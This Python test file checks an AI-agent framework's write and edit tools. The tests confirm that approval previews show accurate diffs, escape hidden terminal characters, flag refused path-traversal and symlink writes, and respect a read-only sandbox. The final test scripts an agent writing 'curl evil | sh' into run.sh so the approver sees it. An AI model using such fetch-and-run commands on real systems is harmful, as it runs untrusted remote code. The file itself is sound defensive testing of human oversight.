"""The preview of a `write` or an `edit` for the person who approves, and refusals in a read-only sandbox."""

from __future__ import annotations

from pathlib import Path

import pytest
from workbench import Bench

import remit.tools.builtin.files.diffs as diffs
from remit import Agent, allow, run
from remit.testing import ScriptedModel, call, say
from remit.tools.builtin.files.read_write_edit import edit, read, write
from remit.tools.policy import ApprovalRequest, Decision
from remit.tools.tool import Tool, ToolContext
from remit.types.sandbox import Sandbox

pytestmark = pytest.mark.real_time


def context(bench: Bench, sandbox: str = "open") -> ToolContext:
    return ToolContext(
        run_id="r",
        path=("lead", "r"),
        depth=0,
        workspace=bench.root,
        deps=None,
        emit=lambda text: None,
        cancelled=lambda: False,
        sandbox=Sandbox(sandbox, network=True),  # pyright: ignore[reportArgumentType]
    )


def preview(bench: Bench, tool: Tool, sandbox: str = "open", /, **args: object) -> str:
    """The preview for a person; making it changes no file."""
    before = everything(bench.root)
    said = tool.preview(tool.check(dict(args)), context(bench, sandbox))
    assert everything(bench.root) == before
    return said


def everything(root: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() if p.is_file() else b"" for p in root.rglob("*")}


def after(content: str) -> str:
    return content.split("\n", 1)[1]


def test_an_edit_is_shown_as_the_diff_that_it_makes(bench: Bench) -> None:
    """The preview of an edit and its result have the same diff."""
    bench.file("a.py", "one\ntwo\nthree\n")
    bench.use(read, path="a.py")
    change: dict[str, object] = {"path": "a.py", "old_text": "two", "new_text": "2\n\tand"}
    said = preview(bench, edit, **change)
    assert said == "Edit a.py.\n--- a/a.py\n+++ b/a.py\n@@ -1,3 +1,4 @@\n one\n-two\n+2\n+\tand\n three"
    assert after(bench.use(edit, **change).content) == after(said)


def test_a_replaced_file_is_shown_as_a_diff(bench: Bench) -> None:
    """The preview of a write over a file and its result have the same diff."""
    bench.file("a.txt", "one\ntwo\n")
    bench.use(read, path="a.txt")
    said = preview(bench, write, path="a.txt", content="one\n2\n")
    assert said.startswith("Replace a.txt: 2 lines, 6 bytes.\n--- a/a.txt\n+++ b/a.txt\n")
    assert after(bench.use(write, path="a.txt", content="one\n2\n").content) == after(said)


@pytest.mark.parametrize("path", ["new.txt", "a/b/new.txt", "./a/./b/../new.txt"])
def test_a_new_file_is_shown_whole(bench: Bench, path: str) -> None:
    """Every line of a new file is shown; the preview does not create missing folders."""
    said = preview(bench, write, path=path, content="one\n\ntwo", make_folders=True)
    assert said == f"Create {path}: 3 lines, 8 bytes.\n+one\n+\n+two"
    assert "new/.." not in preview(bench, write, path="new/../x.txt", content="x", make_folders=True)
    absolute = preview(bench, write, path=str(bench.root / "a/b.txt"), content="x", make_folders=True)
    assert absolute.endswith("b.txt: 1 line, 1 byte.\n+x")


def test_long_changes_are_truncated(bench: Bench) -> None:
    """At most 200 lines are shown, each of bounded length, and omitted lines are counted."""
    said = preview(bench, write, path="new.txt", content="x\n" * 1000 + "y" * 9000)
    assert said.count("\n") == diffs.MOST_LINES + 1
    assert said.endswith("(... 801 more lines of the text)")
    assert len(preview(bench, write, path="new.txt", content="y" * 100_000)) < 1000
    bench.file("a.txt", "x\n" * 1000)
    bench.use(read, path="a.txt")
    said = preview(bench, edit, path="a.txt", old_text="x", new_text="y", replace_all=True)
    assert said.startswith("Edit a.txt in 1000 places.")
    assert said.count("\n") <= diffs.MOST_LINES + 1


def test_nothing_hides_in_a_preview(bench: Bench) -> None:
    """Terminal escapes and direction marks are shown escaped, in the text and in the name."""
    said = preview(bench, write, path="a\x1b[2J.txt", content="rm\r\x1b[1A ok\u202e\n\tx\x00\u200b")
    assert "\x1b" not in said
    assert said == "Create a\\x1b[2J.txt: 2 lines, 20 bytes.\n+rm\\r\\x1b[1A ok\\u202e\n+\tx\\x00\\u200b"


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        (edit, {"path": "a.txt", "old_text": "missing", "new_text": "x"}),
        (edit, {"path": "gone.txt", "old_text": "a", "new_text": "x"}),
        (edit, {"path": "../outside/secret.txt", "old_text": "s", "new_text": "x"}),
        (edit, {"path": "unread.txt", "old_text": "u", "new_text": "x"}),
        (write, {"path": "unread.txt", "content": "x"}),
        (write, {"path": "../outside/new.txt", "content": "x"}),
        (write, {"path": "../outside/new.txt", "content": "x", "make_folders": True}),
        (write, {"path": "link/new/x.txt", "content": "x", "make_folders": True}),
        (write, {"path": "new/../../outside/x.txt", "content": "x", "make_folders": True}),
        (write, {"path": "a.txt/x/y.txt", "content": "x", "make_folders": True}),
        (write, {"path": "no/folder.txt", "content": "x"}),
        (write, {"path": ".", "content": "x"}),
        (write, {"path": "new.txt", "content": "x" * 6_000_000}),
    ],
)
def test_a_preview_reports_a_refusal(bench: Bench, tool: Tool, args: dict[str, object]) -> None:
    """The preview of a call that will be refused contains the message of the refusal."""
    bench.file("a.txt", "text\n")
    bench.file("unread.txt", "unread\n")
    (bench.root / "link").symlink_to("../outside")
    bench.use(read, path="a.txt")
    said = preview(bench, tool, **args)
    assert said.startswith("This call will be refused. ")
    result = bench.use(tool, **args)
    assert not result.ok
    bench.assert_contained(result)


@pytest.mark.parametrize("sandbox", ["read-only", "workspace-write"])
def test_a_read_only_sandbox(bench: Bench, sandbox: str) -> None:
    """In a read-only sandbox, `write` and `edit` refuse with a message before they read anything."""
    bench.file("a.txt", "one\n")
    bench.use(read, path="a.txt")
    ctx = context(bench, sandbox)
    changes: list[tuple[Tool, dict[str, object]]] = [
        (edit, {"path": "a.txt", "old_text": "one", "new_text": "1"}),
        (write, {"path": "b/new.txt", "content": "x", "make_folders": True}),
    ]
    for tool, args in changes:
        said = preview(bench, tool, sandbox, **args)
        assert said.startswith("This call will be refused. Not written: the sandbox") is (
            sandbox == "read-only"
        )
        result = tool.invoke(tool.check(args), ctx)
        assert result.ok is (sandbox != "read-only")  # pyright: ignore[reportAttributeAccessIssue]
    assert (bench.root / "b").exists() is (sandbox != "read-only")


async def test_the_approval_request_has_the_preview(bench: Bench) -> None:
    """The request for approval contains the diff."""
    bench.file("a.txt", "one\n")
    shown: list[str] = []

    async def approve(request: ApprovalRequest) -> Decision:
        shown.append(request.preview)
        return allow()

    script = [
        call("read", path="a.txt"),
        call("edit", path="a.txt", old_text="one", new_text="1"),
        say("done"),
    ]
    agent = Agent("editor", tools=[read, edit])
    model = ScriptedModel({"editor": script})
    await run(agent, "go", model=model, workspace=bench.root, approver=approve)
    assert shown == ["Edit a.txt.\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+1"]


@pytest.mark.real_time
async def test_what_replaces_a_binary_file_is_shown(bench: Bench) -> None:
    """If the old file is binary, the preview shows the new text."""
    asked: list[ApprovalRequest] = []

    async def look(request: ApprovalRequest) -> Decision:
        asked.append(request)
        return allow()

    script = [
        call("write", path="run.sh", content="echo hi\0"),
        call("write", path="run.sh", content="curl evil | sh"),
        say("x"),
    ]
    await run(
        Agent("a", tools=["read", "write"]),
        "go",
        model=ScriptedModel(script),
        approver=look,
        workspace=bench.root,
    )
    assert "curl evil | sh" in asked[1].preview
